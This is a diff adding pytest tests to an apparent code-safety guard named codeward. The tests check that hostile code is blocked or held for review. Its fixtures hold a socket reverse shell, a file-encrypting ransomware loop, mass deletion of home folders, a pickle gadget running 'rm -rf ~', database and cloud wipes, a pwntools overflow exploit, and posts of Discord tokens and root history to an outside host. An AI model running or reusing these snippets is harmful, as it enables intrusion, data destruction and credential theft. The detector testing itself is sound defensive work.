@@ -15,7 +15,7 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from codeward import Context, Decision, Finding, Guard, Subject
+from codeward import Actor, Context, Decision, Finding, Guard, Subject
 
 
 def decide(guard: Guard, code: str, mode: str = "execute") -> Decision:
@@ -740,3 +740,140 @@ _PYTHONISH = st.lists(
 @given(st.one_of(st.text(max_size=300), _PYTHONISH))
 def test_arbitrary_text_never_raises_and_never_fails_the_analyzer(guard: Guard, text: str) -> None:
     decide(guard, text)
+
+
+# ---------------------------------------------------------------------------------------------- shapes written other ways
+@pytest.mark.parametrize(
+    "wiring",
+    [
+        "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n",
+        "for fd in range(3):\n    os.dup2(s.fileno(), fd)\n",
+        "[os.dup2(s.fileno(), fd) for fd in range(3)]\n",
+    ],
+    ids=["tuple-loop", "range-loop", "comprehension"],
+)
+def test_a_socket_wired_to_stdio_in_a_loop_is_still_a_reverse_shell(guard: Guard, wiring: str) -> None:
+    code = f"import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n{wiring}pty.spawn('/bin/bash')\n"
+    decision = decide(guard, code)
+    assert one(decision, "proc.reverse_shell").target == "203.0.113.7:4444"
+    assert decision.action == "block"
+
+
+def test_ransomware_with_an_aead_cipher_and_pathlib_is_ransomware(guard: Guard) -> None:
+    code = (
+        "from pathlib import Path\nfrom cryptography.hazmat.primitives.ciphers.aead import AESGCM\nimport os\n"
+        "aes = AESGCM(AESGCM.generate_key(bit_length=256))\nfor p in Path('/srv/shares').rglob('*'):\n"
+        "    nonce = os.urandom(12)\n"
+        "    p.with_suffix('.enc').write_bytes(nonce + aes.encrypt(nonce, p.read_bytes(), None))\n"
+        "    p.unlink()\n"
+    )
+    decision = decide(guard, code)
+    assert one(decision, "crypto.mass_encrypt").target == "/srv/shares"
+    assert decision.action == "block"
+
+
+def test_emptying_a_personal_folder_entry_by_entry_is_deleting_the_users_files(guard: Guard) -> None:
+    code = (
+        "from pathlib import Path\nimport shutil\nfor child in (Path.home() / 'Documents').iterdir():\n"
+        "    shutil.rmtree(child) if child.is_dir() else child.unlink()\n"
+    )
+    decision = decide(guard, code)
+    assert one(decision, "fs.delete.recursive").target == "~/Documents/*"
+    assert decision.action == "block"
+
+
+def test_a_pickle_that_only_echoes_is_judged_by_its_echo(guard: Guard) -> None:
+    code = (
+        "import pickle\nclass Gadget:\n    def __reduce__(self):\n        import os\n"
+        "        return (os.system, ('echo hello',))\npickle.loads(pickle.dumps(Gadget()))\n"
+    )
+    decision = decide(guard, code)
+    assert one(decision, "exec.deserialize").severity == "medium"
+    assert decision.action == "confirm"
+    harmful = code.replace("echo hello", "rm -rf ~")
+    assert decide(guard, harmful).action == "block"
+
+
+@pytest.mark.parametrize(
+    ("destination", "capability", "action"),
+    [
+        ("/usr/copy_file", "fs.write", "confirm"),
+        ("/usr/bin/ls", "fs.write.system", "review"),
+        ("/etc/app.conf", "fs.write.system", "review"),
+    ],
+)
+def test_a_file_parked_under_usr_is_asked_about_and_a_file_the_system_reads_is_held(
+    guard: Guard, destination: str, capability: str, action: str
+) -> None:
+    decision = decide(guard, f"import shutil\nshutil.copy('/etc/hostname', '{destination}')\n")
+    assert python_findings(decision, capability), [f.capability for f in decision.findings]
+    assert decision.action == action
+
+
+# ---------------------------------------------------------------------------------------------- services beyond the machine
+@pytest.mark.parametrize(
+    ("code", "capability"),
+    [
+        (
+            "from sqlalchemy import create_engine, text\nengine = create_engine('postgresql://db/orders')\n"
+            "with engine.begin() as conn:\n    conn.execute(text('DROP TABLE customers CASCADE'))\n",
+            "data.destroy",
+        ),
+        (
+            "import sqlite3\nsqlite3.connect('app.db').executescript('DROP DATABASE orders;')\n",
+            "data.destroy",
+        ),
+        ("import boto3\nboto3.resource('s3').Bucket('acme-prod').objects.all().delete()\n", "data.destroy"),
+        ("import boto3\nboto3.client('ec2').terminate_instances(InstanceIds=['i-1'])\n", "infra.destroy"),
+    ],
+    ids=["sqlalchemy-drop", "sqlite-drop-db", "s3-wipe", "ec2-terminate"],
+)
+def test_destroying_databases_buckets_and_machines_is_held(guard: Guard, code: str, capability: str) -> None:
+    decision = decide(guard, code)
+    assert python_findings(decision, capability)
+    assert decision.action == "review"
+
+
+def test_ordinary_queries_and_single_deletes_are_not_data_destruction(guard: Guard) -> None:
+    code = (
+        "import sqlite3, boto3\ndb = sqlite3.connect('app.db')\n"
+        "db.execute('DELETE FROM sessions WHERE expires < ?', (0,))\ndb.execute('SELECT * FROM users')\n"
+        "boto3.client('s3').delete_object(Bucket='b', Key='tmp/x.csv')\n"
+    )
+    assert not found(decide(guard, code), "data.destroy")
+
+
+EXPLOIT = (
+    "from pwn import *\ncontext.arch = 'amd64'\nio = remote('10.10.0.15', 9999)\nio.recvuntil(b'> ')\n"
+    "io.sendline(b'A' * 72 + p64(0x401196) + asm(shellcraft.sh()))\nio.interactive()\n"
+)
+
+
+def test_an_exploit_sent_to_another_host_is_held_unless_a_cleared_researcher_runs_it(guard: Guard) -> None:
+    anonymous = decide(guard, EXPLOIT)
+    assert one(anonymous, "net.exploit").target == "10.10.0.15:9999"
+    assert anonymous.action == "review"
+    researcher = Context(
+        actor=Actor(id="ana", roles=["security-engineer"], verified=True), declared_intent="security_research"
+    )
+    cleared = guard.check(Subject(content=EXPLOIT, language="python", mode="execute"), researcher)
+    assert cleared.action in ("allow", "notice")
+
+
+def test_an_exploit_against_a_local_challenge_is_not_an_attack_on_another_host(guard: Guard) -> None:
+    assert not found(decide(guard, EXPLOIT.replace("10.10.0.15", "127.0.0.1")), "net.exploit")
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb', 'x.ldb')",
+        "'/root/.bash_history'",
+    ],
+    ids=["discord-token-store", "root-history"],
+)
+def test_token_stores_and_private_files_sent_out_are_exfiltration(guard: Guard, path: str) -> None:
+    code = f"import os, requests\nrequests.post('https://hooks.example.net/w', data=open({path}).read())\n"
+    decision = decide(guard, code)
+    assert python_findings(decision, "net.exfiltrate")
+    assert decision.action == "block"
